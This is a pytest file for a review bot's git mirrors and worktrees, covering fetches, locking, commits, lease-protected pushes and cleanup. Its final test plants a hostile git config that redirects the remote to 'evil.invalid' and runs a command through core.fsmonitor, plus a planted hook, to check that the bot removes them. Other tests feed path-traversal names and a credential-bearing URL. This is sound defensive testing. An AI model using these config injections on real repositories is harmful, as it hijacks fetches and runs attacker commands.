"""Mirrors, per-task worktrees, commits and pushes, against real git repositories."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from bot.git.cmd import GitError, git
from bot.git.worktrees import (
    LEASE_FILE,
    Mirrors,
    Worktree,
    changed_files,
    commit_all,
    delete_branch,
    push,
)
from tests.gitrepos import Remote

BOT = ("review-loop[bot]", "123+review-loop[bot]@users.noreply.github.com")


async def test_ensure_creates_a_mirror_that_later_fetches_new_commits(
    mirrors: Mirrors, remote: Remote
) -> None:
    """The first ensure makes a bare mirror; the next one fetches commits pushed since."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    first = await git("rev-parse", "refs/remotes/origin/main", cwd=mirror)
    assert first.strip() == await remote.sha()

    new_sha = await remote.commit({"src/app.py": "def main() -> int:\n    return 1\n"})
    assert await mirrors.ensure("acme/demo", remote.url, None) == mirror
    assert (await git("rev-parse", "refs/remotes/origin/main", cwd=mirror)).strip() == new_sha
    assert mirrors.fetch_seconds[mirror] > 0


async def test_ensure_skips_the_fetch_when_the_mirror_holds_the_wanted_commits(
    mirrors: Mirrors, remote: Remote
) -> None:
    """A task whose commits the mirror fetched since it was planned does not fetch again;
    a commit the mirror lacks, or a last fetch older than the task, makes it fetch."""
    planned = time.time()
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    head = await remote.sha()
    later = await remote.commit({"later.txt": "pushed after the fetch\n"}, branch="other")

    await mirrors.ensure("acme/demo", remote.url, None, want=[head], fresh_since=planned)
    assert "origin/other" not in await git("branch", "--remotes", cwd=mirror)

    await mirrors.ensure("acme/demo", remote.url, None, want=[head], fresh_since=time.time())
    assert "origin/other" in await git("branch", "--remotes", cwd=mirror)

    newer = await remote.commit({"newer.txt": "n\n"})
    await mirrors.ensure("acme/demo", remote.url, None, want=[head, newer], fresh_since=planned)
    assert (await git("rev-parse", "refs/remotes/origin/main", cwd=mirror)).strip() == newer
    assert (await git("rev-parse", "refs/remotes/origin/other", cwd=mirror)).strip() == later


async def test_concurrent_tasks_of_one_head_share_one_fetch(
    mirrors: Mirrors, remote: Remote
) -> None:
    """Tasks that wait on the lock while another fetches their commit do not fetch again."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    planned = time.time()
    head = await remote.commit({"head.txt": "h\n"})
    fetched = mirrors.lock_file(mirror).with_name(mirror.name + ".fetched")
    stamps: list[str] = []

    async def task() -> None:
        await mirrors.ensure("acme/demo", remote.url, None, want=[head], fresh_since=planned)
        stamps.append(fetched.read_text())

    await asyncio.gather(*(task() for _ in range(4)))
    assert len(set(stamps)) == 1, "more than one task fetched"


async def test_fetch_follows_branches_deleted_on_the_remote(
    mirrors: Mirrors, remote: Remote
) -> None:
    """A branch deleted on the remote disappears from the mirror on the next fetch."""
    await remote.commit({"x.txt": "x\n"}, branch="feature")
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    assert "origin/feature" in await git("branch", "--remotes", cwd=mirror)

    await git("push", "--quiet", "origin", "--delete", "feature", cwd=remote.work)
    await mirrors.ensure("acme/demo", remote.url, None)
    assert "origin/feature" not in await git("branch", "--remotes", cwd=mirror)


async def test_ensure_refuses_a_url_with_credentials(mirrors: Mirrors) -> None:
    """Credentials belong in the token argument, never in a URL stored in the mirror."""
    with pytest.raises(ValueError, match="credentials"):
        await mirrors.ensure("acme/demo", "https://x-access-token:ghs_abc@github.com/a/b", None)


async def test_mirror_path_refuses_names_that_escape_the_data_dir(mirrors: Mirrors) -> None:
    """A repository name is owner/name and nothing else."""
    for bad in ("../etc", "a/b/c", "a/..", "a"):
        with pytest.raises(ValueError):
            mirrors.mirror_path(bad)


async def test_two_worktrees_on_different_branches_are_independent(
    mirrors: Mirrors, remote: Remote
) -> None:
    """A change in one task's worktree is invisible in another's."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    sha = await remote.sha()
    one = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "a"), "t/a", sha)
    two = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "b"), "t/b", sha)

    (one.path / "README.md").write_text("changed in one\n")
    await commit_all(one, "one", *BOT)

    assert (two.path / "README.md").read_text() == "# demo\n"
    assert await changed_files(two, sha) == []
    assert (await git("rev-parse", "--abbrev-ref", "HEAD", cwd=two.path)).strip() == "t/b"
    assert two.base_sha == sha


async def test_sixteen_concurrent_adds_on_one_mirror_all_succeed(
    tmp_path: Path, remote: Remote
) -> None:
    """The mirror lock serialises worktree metadata, across tasks and separate lock holders."""
    # Four Mirrors objects have four asyncio locks: only the file lock keeps them apart.
    instances = [Mirrors(tmp_path / "data") for _ in range(4)]
    mirror = await instances[0].ensure("acme/demo", remote.url, None)
    sha = await remote.sha()

    adds = [
        m.add_worktree(mirror, m.worktree_path("acme/demo", f"t{i}-{j}"), f"task/{i}-{j}", sha)
        for i, m in enumerate(instances)
        for j in range(4)
    ]
    made = await asyncio.gather(*adds)

    assert len({wt.path for wt in made}) == 16
    assert all((wt.path / "src" / "app.py").exists() for wt in made)
    listing = await git("worktree", "list", "--porcelain", cwd=mirror)
    assert listing.count("\nbranch refs/heads/task/") == 16


HOLD_LOCK = """
import fcntl, os, sys
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)
fcntl.flock(fd, fcntl.LOCK_EX)
print("locked", flush=True)
sys.stdin.readline()
"""


async def test_mirror_lock_excludes_other_processes(mirrors: Mirrors, remote: Remote) -> None:
    """While another process holds a mirror's lock, a fetch of that mirror waits for it."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    holder = await asyncio.create_subprocess_exec(
        sys.executable, "-c", HOLD_LOCK, str(mirrors.lock_file(mirror)),
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    assert holder.stdout is not None
    assert await holder.stdout.readline() == b"locked\n"

    fetch = asyncio.create_task(mirrors.ensure("acme/demo", remote.url, None))
    done, _ = await asyncio.wait([fetch], timeout=0.3)
    assert not done, "the fetch ran while another process held the lock"

    await holder.communicate(b"release\n")
    assert await fetch == mirror


async def test_add_worktree_records_its_spawn_timings(worktree: Worktree) -> None:
    """Each spawn reports fetch, lock, metadata and checkout seconds for the planner."""
    timings = worktree.timings
    assert timings.fetch_s > 0
    assert timings.add_s > 0 and timings.checkout_s > 0
    assert timings.total_s == pytest.approx(timings.fetch_s + timings.worktree_s)


async def test_add_worktree_forces_the_branch_so_a_retry_resumes(
    mirrors: Mirrors, remote: Remote, worktree: Worktree
) -> None:
    """A retry reuses the task branch name and starts from the sha it is given."""
    (worktree.path / "partial.txt").write_text("partial work\n")
    partial = await commit_all(worktree, "partial", *BOT)
    assert partial is not None
    await mirrors.remove_worktree(worktree, delete_branch=False)

    retry = await mirrors.add_worktree(
        worktree.mirror, worktree.path, worktree.branch, await remote.sha()
    )
    assert retry.base_sha == await remote.sha()
    resumed = await mirrors.add_worktree(
        worktree.mirror, worktree.path.with_name("again"), "other", partial
    )
    assert (resumed.path / "partial.txt").exists()


async def test_add_worktree_prunes_metadata_a_crash_left_only_when_git_refuses(
    mirrors: Mirrors, worktree: Worktree
) -> None:
    """A worktree directory deleted without git (a crash, a kill -9 mid-removal) leaves
    metadata holding its path and branch; the next add there prunes it and succeeds."""
    shutil.rmtree(worktree.path)
    again = await mirrors.add_worktree(
        worktree.mirror, worktree.path, worktree.branch, worktree.base_sha
    )
    assert (again.path / "src" / "app.py").exists()
    listing = await git("worktree", "list", "--porcelain", cwd=worktree.mirror)
    assert listing.count("\nworktree ") == 1


async def test_add_worktree_prunes_a_branch_held_by_a_vanished_worktree(
    mirrors: Mirrors, worktree: Worktree
) -> None:
    """The branch of a worktree whose directory vanished can be checked out elsewhere."""
    shutil.rmtree(worktree.path)
    other = await mirrors.add_worktree(
        worktree.mirror, worktree.path.with_name("other"), worktree.branch, worktree.base_sha
    )
    assert (await git("rev-parse", "--abbrev-ref", "HEAD", cwd=other.path)).strip() == (
        worktree.branch
    )


async def test_the_janitors_prune_drops_metadata_of_vanished_worktrees_only(
    mirrors: Mirrors, remote: Remote
) -> None:
    """What git keeps of a worktree whose directory vanished goes; live worktrees stay."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    sha = await remote.sha()
    kept = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "k"), "k", sha)
    gone = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "g"), "g", sha)
    shutil.rmtree(gone.path)

    await mirrors.prune_metadata()

    listing = await git("worktree", "list", "--porcelain", cwd=mirror)
    assert str(kept.path) in listing and str(gone.path) not in listing


async def test_remove_worktree_leaves_another_worktrees_metadata_alone(
    mirrors: Mirrors, remote: Remote
) -> None:
    """A worktree whose `.git` file was rewritten to name another worktree's metadata is
    removed without touching that other worktree."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    sha = await remote.sha()
    one = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "a"), "a", sha)
    two = await mirrors.add_worktree(mirror, mirrors.worktree_path("acme/demo", "b"), "b", sha)
    (one.path / ".git").write_text((two.path / ".git").read_text())

    await mirrors.remove_worktree(one, delete_branch=False)

    assert (await git("status", "--porcelain", cwd=two.path)).strip() == ""
    listing = await git("worktree", "list", "--porcelain", cwd=mirror)
    assert str(two.path) in listing and str(one.path) not in listing


async def test_add_worktree_reclaims_a_directory_left_by_a_crashed_run(
    mirrors: Mirrors, worktree: Worktree
) -> None:
    """A worktree left behind by this process (no live holder) is replaced on retry."""
    (worktree.path / "junk.txt").write_text("left over\n")
    again = await mirrors.add_worktree(
        worktree.mirror, worktree.path, "review-loop/pr-1/1-retry", worktree.base_sha
    )
    assert not (again.path / "junk.txt").exists()


async def test_remove_moves_to_trash_and_leaves_git_metadata_clean(
    mirrors: Mirrors, worktree: Worktree
) -> None:
    """Removing a worktree is a rename plus prune; emptying the trash deletes the files."""
    await mirrors.remove_worktree(worktree)

    assert not worktree.path.exists()
    assert len(list(mirrors.trash.iterdir())) == 1
    listing = await git("worktree", "list", "--porcelain", cwd=worktree.mirror)
    assert listing.strip() == f"worktree {worktree.mirror}\nbare"
    assert not any((worktree.mirror / "worktrees").glob("*"))
    assert (await git("branch", "--list", worktree.branch, cwd=worktree.mirror)).strip() == ""

    assert await mirrors.empty_trash() == 1
    assert list(mirrors.trash.iterdir()) == []


async def test_empty_trash_deletes_in_batches(mirrors: Mirrors, remote: Remote) -> None:
    """`max_entries` bounds how much one pass deletes."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    for i in range(3):
        path = mirrors.worktree_path("acme/demo", f"t{i}")
        wt = await mirrors.add_worktree(mirror, path, f"t/{i}", await remote.sha())
        await mirrors.remove_worktree(wt)
    assert await mirrors.empty_trash(max_entries=2) == 2
    assert await mirrors.empty_trash() == 1


async def test_prune_abandoned_removes_only_worktrees_whose_holder_died(
    mirrors: Mirrors, remote: Remote
) -> None:
    """A worktree whose holder process is gone is removed; this process's own, another live
    process's and one held on another host stay."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    sha = await remote.sha()
    made = {
        name: await mirrors.add_worktree(
            mirror, mirrors.worktree_path("acme/demo", name), name, sha
        )
        for name in ("own", "dead", "live", "remote")
    }
    died = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)  # fmt: skip
    holders = {
        "dead": {"pid": int(died.stdout)},
        "live": {"pid": os.getppid()},  # our parent
        "remote": {"pid": int(died.stdout), "host": "elsewhere"},
    }
    for name, changes in holders.items():
        admin = Path((await git("rev-parse", "--absolute-git-dir", cwd=made[name].path)).strip())
        lease = json.loads((admin / LEASE_FILE).read_text())
        (admin / LEASE_FILE).write_text(json.dumps({**lease, **changes}))

    removed = await mirrors.prune_abandoned()

    assert removed == [made["dead"].path]
    assert [n for n, wt in made.items() if wt.path.exists()] == ["own", "live", "remote"]
    branches = await git("branch", "--format=%(refname:short)", cwd=mirror)
    assert "dead" not in branches.split()


async def test_commit_all_commits_everything_as_the_given_author_and_committer(
    worktree: Worktree,
) -> None:
    """Modified, new and deleted files all land in one commit by the bot identity."""
    (worktree.path / "README.md").write_text("# changed\n")
    (worktree.path / "new.txt").write_text("new\n")
    (worktree.path / "src" / "app.py").unlink()

    sha = await commit_all(worktree, "Fix things\n\nFixes #3", *BOT)

    assert sha is not None
    fmt = "%an|%ae|%cn|%ce|%s"
    who = await git("log", "-1", f"--format={fmt}", sha, cwd=worktree.path)
    assert who.strip() == f"{BOT[0]}|{BOT[1]}|{BOT[0]}|{BOT[1]}|Fix things"
    names = await git("show", "--name-status", "--format=", sha, cwd=worktree.path)
    assert sorted(names.split()) == sorted(["M", "README.md", "A", "new.txt", "D", "src/app.py"])


async def test_commit_all_returns_none_when_nothing_changed(worktree: Worktree) -> None:
    """No change, no commit."""
    assert await commit_all(worktree, "nothing", *BOT) is None


async def test_changed_files_includes_committed_modified_and_untracked(
    worktree: Worktree,
) -> None:
    """Everything that differs from the base, committed or not, is listed once."""
    (worktree.path / "README.md").write_text("# committed\n")
    await commit_all(worktree, "one", *BOT)
    (worktree.path / "src" / "app.py").write_text("x = 1\n")
    (worktree.path / "untracked file.txt").write_text("u\n")

    assert await changed_files(worktree, worktree.base_sha) == [
        "README.md",
        "src/app.py",
        "untracked file.txt",
    ]


async def test_push_with_lease_creates_the_branch_then_refuses_when_the_remote_moved(
    worktree: Worktree, remote: Remote
) -> None:
    """A push names what it expects on the remote; if someone else moved it, git refuses."""
    (worktree.path / "fix.txt").write_text("fix\n")
    first = await commit_all(worktree, "fix", *BOT)
    await push(worktree, remote.url, None, "fix-branch", None)
    assert await remote.sha("fix-branch") == first

    await push(worktree, remote.url, None, "fix-branch", None)  # same sha again: a no-op

    (worktree.path / "fix.txt").write_text("fix 2\n")
    await commit_all(worktree, "fix 2", *BOT)
    with pytest.raises(GitError, match="stale info"):  # expected absent, but it exists now
        await push(worktree, remote.url, None, "fix-branch", None)

    theirs = await remote.commit({"other.txt": "someone else\n"}, branch="fix-branch")
    with pytest.raises(GitError, match="stale info"):
        await push(worktree, remote.url, None, "fix-branch", first)
    assert await remote.sha("fix-branch") == theirs

    await push(worktree, remote.url, None, "fix-branch", theirs)
    assert await remote.sha("fix-branch") != theirs


async def test_delete_branch_deletes_only_the_branch_as_the_bot_left_it(
    worktree: Worktree, remote: Remote
) -> None:
    """A task branch is deleted only while it is where the task pushed it: one someone else
    moved is theirs, and git refuses. From the worktree or from the mirror alike."""
    (worktree.path / "fix.txt").write_text("fix\n")
    first = await commit_all(worktree, "fix", *BOT)
    await push(worktree, remote.url, None, "fix-branch", None)
    theirs = await remote.commit({"other.txt": "someone else\n"}, branch="fix-branch")
    with pytest.raises(GitError, match="stale info"):
        await delete_branch(worktree.path, remote.url, None, "fix-branch", first)
    assert await remote.sha("fix-branch") == theirs

    await delete_branch(worktree.mirror, remote.url, None, "fix-branch", theirs)
    heads = await git("for-each-ref", "--format=%(refname)", "refs/heads", cwd=remote.bare)
    assert "refs/heads/fix-branch" not in heads.split()


async def test_ensure_heals_a_mirror_config_and_hooks_planted_from_a_worktree(
    mirrors: Mirrors, remote: Remote
) -> None:
    """Code run in a worktree can write the mirror's shared config and hooks; the next ensure
    puts back the bot's own config and removes the hooks before git reads them."""
    mirror = await mirrors.ensure("acme/demo", remote.url, None)
    wt = await mirrors.add_worktree(
        mirror, mirrors.worktree_path("acme/demo", "t"), "review-loop/pr-1/1", await remote.sha()
    )
    await git("config", "url.http://evil.invalid/.insteadOf", remote.url, cwd=wt.path)
    await git("config", "core.fsmonitor", "touch /tmp/pwned", cwd=wt.path)
    (mirror / "hooks" / "reference-transaction").write_text("#!/bin/sh\nexit 0\n")

    assert await mirrors.ensure("acme/demo", remote.url, None) == mirror

    listing = await git("config", "--list", "--local", cwd=mirror)
    assert "insteadof" not in listing.lower() and "fsmonitor" not in listing
    assert f"remote.origin.url={remote.url}" in listing
    assert not [h for h in (mirror / "hooks").iterdir() if not h.name.endswith(".sample")]
    new_sha = await remote.commit({"README.md": "# healed\n"})
    await mirrors.ensure("acme/demo", remote.url, None)
    assert (await git("rev-parse", "refs/remotes/origin/main", cwd=mirror)).strip() == new_sha
